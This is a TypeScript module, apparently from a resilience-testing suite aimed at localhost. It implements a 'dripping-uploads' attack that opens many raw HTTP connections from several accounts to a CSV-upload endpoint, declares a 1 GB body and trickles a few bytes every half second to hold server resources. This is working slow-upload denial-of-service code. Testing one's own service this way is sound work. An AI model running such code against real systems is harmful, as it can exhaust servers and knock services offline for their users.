import type { Attack } from './attack';
import { Connection, countStatuses } from './connection';
import { type AttackingMarketer, makeMarketers } from './marketers';

const DRIP_MS = 500;
const GIVE_UP_MS = 60_000;
const UPLOADS_EACH = 4;
const BOUNDARY = 'drip';

function beginning({ contactTypeId, headers }: AttackingMarketer): string {
  const credentials = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  return [
    `POST /api/email/contacts/upload-csv HTTP/1.1\r\nHost: localhost\r\n${credentials.join('')}`,
    `Content-Type: multipart/form-data; boundary=${BOUNDARY}\r\nContent-Length: 1000000000\r\n\r\n`,
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="contact_type_id"\r\n\r\n${contactTypeId}\r\n`,
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="contacts.csv"\r\n`,
    'Content-Type: text/csv\r\n\r\nemail\n',
  ].join('');
}

let marketers: AttackingMarketer[] = [];

/** Files that never end, by several accounts at once. */
export const drippingUploads: Attack = {
  name: 'dripping-uploads',
  summary: 'Uploads files a few bytes at a time, from several accounts.',
  async prepare(target) {
    marketers = await makeMarketers(target, 20);
  },
  async run(target, { scale, signal }) {
    const attackers = scale === 'short' ? marketers.slice(0, 4) : marketers;
    const connections = await Promise.all(
      attackers
        .flatMap((marketer) => Array<AttackingMarketer>(UPLOADS_EACH).fill(marketer))
        .map(async (marketer) => {
          const connection = await Connection.open(target);
          const until = Date.now() + GIVE_UP_MS;
          await connection.write(beginning(marketer));
          while (!signal.aborted && Date.now() < until && connection.status === null) {
            await connection.ended(DRIP_MS, signal);
            await connection.write('a@b.example\n');
          }
          connection.close();
          return connection;
        }),
    );
    const longest = Math.max(...connections.map(({ heldMs }) => heldMs));
    return `${countStatuses(connections)}; held for ${Math.round(longest / 1000)} s at most`;
  },
};
